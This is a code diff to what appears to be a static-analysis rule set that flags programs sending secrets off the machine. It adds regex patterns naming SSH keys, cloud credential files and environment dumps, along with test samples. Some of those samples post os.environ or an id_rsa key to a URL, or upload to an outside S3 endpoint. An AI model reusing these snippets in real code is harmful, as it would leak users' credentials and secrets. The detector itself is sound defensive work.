@@ -13,6 +13,14 @@ const SECRET_SOURCE = anyOf(
   /(?:open|read_text|read_bytes|readFile(?:Sync)?)\([^)]*(?:\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg|["'/]\.env["'])/,
   /(?:\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg)[^)]*\)+\.(?:open|read_text|read_bytes)\(/,
 )
+/** Of these, what no login asks for. */
+const BEYOND_LOGIN = anyOf(
+  '',
+  /\bos\.environ\b(?!\s*[[.])|\bdict\(os\.environ|\bprocess\.env\b(?!\s*[[.?])/,
+  /\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg|["'/]\.env["']/,
+)
+/** An address that a name and its password belong to. */
+const LOGS_IN = /\/(?:log-?in|sign-?in|token|authenticate)["'`]?$/i
 const SENDS = anyOf(
   '',
   /^(?:requests|httpx|aiohttp|urllib\.request|urllib3|http\.client)\.(?:\w+\.)*(?:post|put|patch|get|request|urlopen|Request)$/,
@@ -28,11 +36,12 @@ function flows({ facts }: Unit): Hit[] {
   return facts.calls.filter((call) => SENDS.test(call.name) && sends(call)).map(hitOf)
 
   function sends(call: Call): boolean {
-    const tainted = namesFrom(SECRET_SOURCE, call, facts)
+    const source = LOGS_IN.test(call.args[0]?.text ?? '') ? BEYOND_LOGIN : SECRET_SOURCE
+    const tainted = namesFrom(source, call, facts)
     return call.args.some(({ name, text }) => {
       if (LOGIN.test(`${name}=`)) return false
       const sent = text.replaceAll(LOGIN_KEY, '')
-      return SECRET_SOURCE.test(sent) || mentions(sent, tainted)
+      return source.test(sent) || mentions(sent, tainted)
     })
   }
 }
@@ -42,6 +51,15 @@ const UPLOADS = anyOf(
   /(?:^|\.)(?:upload_file|upload_fileobj|put_object|upload_blob|upload_from_filename|upload_folder|push_to_hub)$/,
   /^mlflow\.(?:sagemaker|azureml)\.\w+$/,
 )
+
+/** Whether a program says itself where its store is, and that is not a public address. */
+const isOwnStore = ({ name }: Call, { facts }: Unit): boolean =>
+  /(?:^|\.)(?:upload_file|upload_fileobj|put_object)$/.test(name) &&
+  facts.calls.some(({ args }) =>
+    args.some(
+      (one) => one.name === 'endpoint_url' && !/^https?:\/\/[^/:]*\.(?!local\b|internal\b|svc\b)[a-z]{2,}(?:[/:]|$)/i.test(one.value ?? ''),
+    ),
+  )
 
 /** What leaves the machine. */
 export const FLOWS: readonly Rule[] = [
@@ -63,6 +81,7 @@ export const FLOWS: readonly Rule[] = [
         'import os, requests\ndef report():\n    data = dict(os.environ)\n    body = {"d": data}\n    requests.post(URL, json=body)',
         5,
       ),
+      python('import os, requests\nrequests.post(f"{ROOT}/login", json=dict(os.environ))', 2),
       python('import requests\ndef f():\n    key = open("/srv/x/.ssh/id_rsa").read()\n    requests.post(URL, data=key)', 4),
       javascript(
         'async function send() {\n  const all = JSON.stringify(process.env)\n  await fetch(url, { method: "POST", body: all })\n}',
@@ -73,6 +92,7 @@ export const FLOWS: readonly Rule[] = [
       python('import os, requests\ndef f():\n    token = os.environ["API_TOKEN"]\n    requests.post(URL, headers={"X": token}, json={})'),
       python('import os, requests\ndef f():\n    key = os.getenv("API_KEY")\ndef g():\n    requests.post(URL, data=body)'),
       python('def f():\n    where = os.environ.get("KUBECONFIG", "/x/.kube/config")\n    requests.get(address(where))'),
+      python('import os, requests\nsent = {"password": os.environ["ADMIN_PASSWORD"]}\nrequests.post(f"{ROOT}/login", json=sent)'),
       javascript('fetch(url, { headers: { authorization: process.env.API_TOKEN }, body: text })'),
     ],
   },
@@ -90,7 +110,9 @@ export const FLOWS: readonly Rule[] = [
     hints: ['upload', 'put_object', 'push_to_hub', 'sagemaker', 'azureml', 's3 '],
     find: (unit) =>
       unit.language === 'python'
-        ? callsWhere(({ name, args }) => UPLOADS.test(name) && !args.some(({ text }) => /^b?(?:""|'')$/.test(text)))(unit)
+        ? callsWhere(
+            (call) => UPLOADS.test(call.name) && !call.args.some(({ text }) => /^b?(?:""|'')$/.test(text)) && !isOwnStore(call, unit),
+          )(unit)
         : commandsWhere(
             (words) =>
               (isProgram(words, 'aws') &&
@@ -101,10 +123,12 @@ export const FLOWS: readonly Rule[] = [
           )(unit),
     bad: [
       python('s3 = boto3.client("s3")\ns3.upload_file("m.onnx", "bucket", "m")', 2),
+      python('s3 = boto3.client("s3", endpoint_url="https://drop.example.com")\ns3.upload_file("m.onnx", "b", "m")', 2),
       shell('mlflow sagemaker build-and-push-container'),
     ],
     good: [
       python('s3.download_file("bucket", "m", "m.onnx")'),
+      python('s3 = boto3.client("s3", endpoint_url=os.environ["STORE"])\ns3.upload_file("m.onnx", "b", "m")'),
       python('s3.put_object(Bucket=bucket, Key="marker", Body=b"")'),
       shell('aws s3 cp s3://bucket/m .'),
     ],
